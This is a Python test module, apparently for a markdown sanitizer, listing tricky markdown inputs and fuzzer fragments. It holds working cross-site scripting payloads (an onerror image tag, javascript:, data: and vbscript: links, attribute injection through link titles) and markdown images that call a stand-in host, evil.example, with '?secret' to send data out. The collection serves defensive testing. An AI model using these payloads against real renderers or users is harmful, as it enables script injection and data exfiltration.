"""Shapes of markdown that once led, or might lead, a viewer to take text for markup; and what the fuzzers write with.

What a fuzzer finds becomes one more of them.
"""

from __future__ import annotations

IMG = "<img src=x onerror=alert(1)>"
TRICKY = {
    "fence indented, next closes it": f" ```\n```\n{IMG}\n```",
    "fence of three spaces": f"   ```\n```\n{IMG}",
    "fence in a list, then text": f"- a\n  ```\n{IMG}",
    "fence on the list's line": f"- ```\n{IMG}",
    "fence in a nested list": f"- a\n  - b\n    ```\n    {IMG}\n    ```\n{IMG}",
    "fence in a list, html fence after": f"- a\n  ```\n  x\n  ```\n\n```html\n{IMG}\n```",
    "list fence left open, fence after": f"- a\n  ```\n  x\n\n```\n{IMG}\n```",
    "sloppy list fence": f"1. a\n   ```\n{IMG}\n   ```\n{IMG}",
    "fence in a quotation": f"> ```\n{IMG}\n> ```\n```\n{IMG}\n```",
    "fence in a footnote": f"[^1]: ```\n{IMG}\n```\n{IMG}",
    "tilde fence with backtick fence": f"~~~\n```\n{IMG}\n~~~\n{IMG}\n```",
    "tilde fence, indented": f"  ~~~\n~~~\n{IMG}",
    "fence closed by a longer one": f"```\n````\n{IMG}",
    "fence with trailing blanks": f"$$\n```\n$$\n``` \n{IMG}",
    "fence in carriage returns": f"```\r{IMG}\r```\r{IMG}",
    "fence after a line separator": f"```\n\u2028```\n{IMG}",
    "fence with attributes": f"```{{=html}} onclick=alert(1)\n{IMG}\n```\n{IMG}",
    "open fence": f"```html\n{IMG}",
    "fence that draws": '```mermaid\nflowchart TD\nA@{ img: "http://evil.example/x" }\n```',
    "unclosed span": f"`a {IMG}",
    "escaped span": "\\`[x](javascript:alert(1))`",
    "span over blank lines": f"`a\n\n{IMG}`",
    "span with attributes": f"`{IMG}`{{=html}}",
    "image": "![a](http://evil.example/?secret)",
    "image without words": "![](http://evil.example/?secret)",
    "image by reference": "![a][r]\n\n[r]: http://evil.example/x",
    "image after a backslash": r"\\![a](http://evil.example/x)",
    "image after an address": r"https://a.example/\![](http://evil.example/x)",
    "script link": "[a](javascript:alert(1))",
    "script link over lines": "[a](\n javascript:alert(1))",
    "script link in brackets": "[a](<javascript:alert(1)>)",
    "script link, encoded": "[a](java&#115;cript:alert(1)) [b](&#x6a;avascript:x) [c](javascript&colon;alert(1))",
    "script link with a tab": "[a](java\tscript:alert(1)) [b](\x01javascript:alert(1))",
    "data link": "[a](data:text/html,<script>alert(1)</script>) [b](vbscript:x) [c](//evil.example) [d](/api/x)",
    "script definition": "[a]\n\n[a]: javascript:alert(1)",
    "script definition over lines": "[a]\n\n[a]:\n   javascript:alert(1)\n 'title'",
    "script definition in a quotation": "> [a]:\n> javascript:alert(1)\n\n[a]",
    "script footnote": "[^1]\n\n[^1]: javascript:alert(1)",
    "script autolink": "<javascript:alert(1)> <data:text/html,x>",
    "html in a title": f'[a](https://a.example "{IMG}")',
    "quote in a title": '[a](https://a.example "x\\" onmouseover=alert(1) y=\\"")',
    "formula in a title": '[a](https://a.example "$" onmouseover=alert(1) y="$")',
    "formula in a title on the next line": '[a]\n\n[a]: https://a.example\n"$" onmouseover=alert(1) y="$"',
    "formula in an address": '[a](https://a.example/$"onmouseover=alert(1)//$)',
    "formula in a bare address": 'https://a.example/$"onmouseover=alert(1)//$ www.a.example/$"onclick=x$',
    "formula in a bare address after a tag": 'https://a.example/<b>$"onmouseover=alert(1)//$',
    "formula in a bare address after backticks": 'https://a.example/```$" onmouseover=alert(1) $',
    "formula in a bare address in a span": '\\\\`https://a.example/$" onmouseover=alert(1) $`',
    "list that is none, with a fence": f"text\n2. ```\n   {IMG}\n   ```",
    "list that is none, fence after": f"text\n2. ```\n   x\n   ```\n\n```\n{IMG}\n```",
    "list that is none, fence with a fence after": f"text\n2. ```\n   x\n   ```\n\n~~~html\n```\n{IMG}\n~~~",
    "formula over a fence": f"\\begin{{a}}\n```text\n\\end{{a}}\n{IMG}\n```",
    "formula over a fence, by dollars": f"$$\n```text\n$$\n{IMG}\n```",
    "formula with a tag": f"$a{IMG}$ $$b\n{IMG}$$ \\\\({IMG}\\\\)",
    "comment": f"<!-- a --> {IMG} <!--\n\n{IMG}\n-->",
    "declaration": f"<?php ?> <!DOCTYPE html> <![CDATA[ {IMG} ]]>",
    "tag over lines": "<img\nsrc=x\nonerror=alert(1)>",
    "tag after a backslash": f"\\{IMG} \\\\{IMG}",
    "tag after less-than": f"<{IMG} <\u200b{IMG}",
    "tag in a heading": f"{IMG}\n===\n# {IMG}\n{IMG}\n---",
    "tag in a table": f"| a |\n|---|\n| {IMG} `{IMG}` |",
    "tag in indented code": f"    {IMG}\n\n\t{IMG}",
    "html block": f"<div>\n\n```\n</div>{IMG}\n```\n",
    "script block": f"<script>\n```\n</script>{IMG}\n```",
    "NUL and escapes": f"<\0img src=x onerror=alert(1)> \x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\ {IMG}",
    "lone surrogates": f"\ud800{IMG}\udfff `\udc80<b>`",
    "our own code, feigned": f"<code>{IMG}</code> <pre><code>a</code> <code onclick=alert(1)>b</code>",
    "our own code with an image": "<code>![a](http://evil.example/x)</code>",
}

WRITTEN = (
    "` `` $ $$ \\begin{a} \\end{a} \\\\( \\\\) { } \\ <!-- --> <pre> </pre> <code> ![a](http://e.example) ![][r] "
    "[a](javascript:x) [a]( ]( ) [a] [r]: javascript:x http://e.example/ www.e.example/ <https://e.example> \" ' # --- "
    "| word &lt; &#60; @@0@@ [^1]: {=html} ! [ ] < > \\` \\$ : //"
).split()
LINES = [IMG, "\n", "\n", "\n\n", "  ", "   ", "    ", "\t", "- ", "1. ", "> ", '" onclick=x "', "\r", "\u2028", " "]
FRAGMENTS = [*WRITTEN, *LINES, "```", "````", "~~~", "```py"]
